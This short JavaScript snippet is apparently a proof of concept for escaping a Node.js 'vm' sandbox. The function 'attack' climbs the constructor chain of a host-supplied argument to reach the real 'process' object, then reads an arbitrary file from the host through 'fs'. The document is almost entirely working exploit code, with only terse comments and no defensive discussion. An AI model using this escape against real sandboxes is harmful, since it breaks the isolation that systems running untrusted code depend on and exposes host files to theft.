// The constructor of an object that the host has given: the arguments.
// after: read
// source: vm: this.constructor.constructor
async function attack(args) {
  const process = args.constructor.constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(args.path) };
}
